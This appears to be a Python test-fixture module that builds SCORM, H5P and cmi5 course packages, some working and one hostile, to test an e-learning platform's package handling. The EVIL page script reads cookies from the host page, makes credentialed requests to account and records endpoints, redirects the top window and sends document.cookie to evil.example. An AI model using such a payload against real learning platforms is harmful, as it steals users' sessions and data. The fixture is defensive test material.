"""Packages written by us: small ones that do what a real one does, and ones that try what they may not."""

import io
import json
import zipfile
from pathlib import Path

MANIFEST_12 = """<?xml version="1.0"?>
<manifest identifier="seed-12" xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
<metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
<organizations default="o"><organization identifier="o"><title>Seeds in SCORM 1.2</title>
<item identifier="i1" identifierref="r1"><title>The notebook</title><adlcp:masteryscore>60</adlcp:masteryscore></item>
</organization></organizations>
<resources><resource identifier="r1" type="webcontent" adlcp:scormtype="sco" href="index.html"><file href="index.html"/></resource></resources>
</manifest>"""
MANIFEST_2004 = """<?xml version="1.0"?>
<manifest identifier="seed-2004" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"
 xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
<metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
<organizations default="o"><organization identifier="o"><title>Seeds in SCORM 2004</title>
<item identifier="c"><title>First chapter</title>
<item identifier="i1" identifierref="r1" parameters="?page=1"><title>The notebook</title></item></item>
<imsss:sequencing/></organization></organizations>
<resources><resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="index.html"/></resources>
</manifest>"""
PAGE_12 = """<!doctype html><meta charset="utf-8"><title>Seeds</title><p id="where"></p><button id="halt">Stop half-way</button><button id="end">Finish</button>
<script>
var w = window; while (!w.API && w.parent !== w) w = w.parent; var api = w.API;
api.LMSInitialize(""); document.getElementById("where").textContent = "at: " + api.LMSGetValue("cmi.core.lesson_location");
document.getElementById("halt").onclick = function () { api.LMSSetValue("cmi.core.lesson_location", "page 2");
 api.LMSSetValue("cmi.core.lesson_status", "incomplete"); api.LMSSetValue("cmi.core.exit", "suspend"); api.LMSCommit(""); this.textContent = "kept" };
document.getElementById("end").onclick = function () { api.LMSSetValue("cmi.core.score.raw", "80"); api.LMSSetValue("cmi.core.lesson_status", "completed");
 api.LMSFinish(""); this.textContent = "finished" };
</script>"""
PAGE_2004 = """<!doctype html><meta charset="utf-8"><title>Seeds</title><button id="end">Finish</button>
<script>
var w = window; while (!w.API_1484_11 && w.parent !== w) w = w.parent; var api = w.API_1484_11;
api.Initialize("");
document.getElementById("end").onclick = function () { api.SetValue("cmi.score.scaled", "0.9"); api.SetValue("cmi.success_status", "passed");
 api.SetValue("cmi.completion_status", "completed"); api.Terminate(""); this.textContent = "finished" };
</script>"""
EVIL = """<!doctype html><meta charset="utf-8"><title>Evil</title><p id="found">trying</p>
<script>
var found = [];
function tried(name, work) { try { var got = work(); if (got) found.push(name + ": " + got) } catch (e) {} }
tried("cookie", function () { return document.cookie });
tried("cookie of the hub", function () { return parent.parent.document.cookie || "empty" });
tried("page of the hub", function () { return parent.parent.document.body.innerHTML.slice(0, 9) });
tried("go elsewhere", function () { top.location = "https://evil.example/"; return "" });
var left = 3;
function end() { left -= 1; if (!left) document.getElementById("found").textContent = "found: " + found.join(", ") }
function load(name, address, options) { fetch(address, options).then(function (r) { found.push(name + ": " + r.status) }).catch(function () {}).then(end) }
load("hub", HUB + "/en/account/", { credentials: "include" });
load("records", HUB + "/xapi/statements", { credentials: "include" });
load("elsewhere", "https://evil.example/?" + document.cookie, { mode: "no-cors" });
</script>"""


def zipped(contents: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, content in contents.items():
            archive.writestr(path, content)
    return stream.getvalue()


def scorm12(page: str = PAGE_12, manifest: str = MANIFEST_12) -> bytes:
    return zipped({"imsmanifest.xml": manifest, "index.html": page, "film.mp4": bytes(range(256)) * 8})


def scorm2004() -> bytes:
    return zipped({"imsmanifest.xml": MANIFEST_2004, "index.html": PAGE_2004})


def h5p(**changed: object) -> bytes:
    head = {
        "title": "Seeds", "language": "en", "mainLibrary": "H5P.Seeds", "license": "U", "authors": [{"name": "Mutoni"}],
        "preloadedDependencies": [{"machineName": "H5P.Seeds", "majorVersion": 1, "minorVersion": 0}],
    } | changed  # fmt: skip
    library = {"machineName": "H5P.Seeds", "majorVersion": 1, "minorVersion": 0, "preloadedDependencies": []}
    return zipped(
        {
            "h5p.json": json.dumps(head),
            "content/content.json": "{}",
            "H5P.Seeds-1.0/library.json": json.dumps(library),
        }
    )


def written(folder: Path, content: bytes, name: str = "package.zip") -> Path:
    path = folder / name
    path.write_bytes(content)
    return path


def cmi5_xml(units: str, head: str = "") -> str:
    """A course structure around blocks and units; ids are below https://made.example/."""
    return f"""<?xml version="1.0" encoding="utf-8"?>
<courseStructure xmlns="https://w3id.org/xapi/profiles/cmi5/v1/CourseStructure.xsd">
<course id="https://made.example/course"><title><langstring lang="en">Seeds in cmi5</langstring></title>
<description><langstring lang="en">About seeds</langstring></description></course>{head}{units}
</courseStructure>"""


def cmi5_unit(name: str, url: str = "index.html?level=1", **attributes: str) -> str:
    said = "".join(f' {key}="{value}"' for key, value in attributes.items())
    return f"""<au id="https://made.example/{name}"{said}><title><langstring lang="en">Unit {name}</langstring></title>
<description><langstring lang="en">About it</langstring></description><url> {url} </url>
<launchParameters> seeds=3 </launchParameters><entitlementKey>key</entitlementKey></au>"""


def cmi5_block(name: str, inner: str) -> str:
    return f"""<block id="https://made.example/{name}"><title><langstring lang="en">Block {name}</langstring></title>
<description><langstring lang="en">About it</langstring></description>{inner}</block>"""


CMI5_PAGE = """<!doctype html><meta charset="utf-8"><title>Seeds</title><p id="where">starting</p><button id="end">Finish</button>
<script>
var asked = new URLSearchParams(location.search), began = Date.now(), data, token;
var C = "https://w3id.org/xapi/cmi5/context/categories/", V = "http://adlnet.gov/expapi/verbs/";
function call(method, path, query, body) {
  return fetch(asked.get("endpoint") + path + "?" + new URLSearchParams(query), { method: method, body: body && JSON.stringify(body),
    headers: { Authorization: "Basic " + token, "X-Experience-API-Version": "1.0.3", "Content-Type": "application/json" } });
}
function say(verb, result, moves) {
  var id = crypto.randomUUID(), context = JSON.parse(JSON.stringify(data.contextTemplate));
  context.registration = asked.get("registration");
  context.contextActivities.category = [{ id: C + "cmi5" }].concat(moves ? [{ id: C + "moveon" }] : []);
  return call("PUT", "statements", { statementId: id }, { id: id, timestamp: new Date().toISOString(), actor: JSON.parse(asked.get("actor")),
    verb: { id: V + verb }, object: { id: asked.get("activityId") }, context: context, result: result });
}
function where(text) { document.getElementById("where").textContent = text }
(async function () {
  token = (await (await fetch(asked.get("fetch"), { method: "POST" })).json())["auth-token"];
  data = await (await call("GET", "activities/state", { stateId: "LMS.LaunchData", activityId: asked.get("activityId"),
    agent: asked.get("actor"), registration: asked.get("registration") })).json();
  await call("GET", "agents/profile", { profileId: "cmi5LearnerPreferences", agent: asked.get("actor") });
  where((await say("initialized")).status + " level " + asked.get("level") + " " + data.launchParameters);
})();
document.getElementById("end").onclick = async function () {
  var took = { duration: "PT5S" };
  await say("passed", { success: true, score: { scaled: 0.8 }, duration: "PT5S" }, true);
  await say("completed", { completion: true, duration: "PT5S" }, true);
  await say("terminated", took);
  location.href = data.returnURL;
};
</script>"""


def cmi5(structure: str = "", page: str = CMI5_PAGE) -> bytes:
    """Two units that must be passed and worked through, in a block, and one that asks for nothing."""
    inner = cmi5_unit("one", moveOn="CompletedAndPassed", masteryScore="0.6") + cmi5_unit(
        "two", moveOn="CompletedOrPassed"
    )
    structure = structure or cmi5_xml(cmi5_block("first", inner) + cmi5_unit("three"))
    return zipped({"cmi5.xml": structure, "index.html": page})
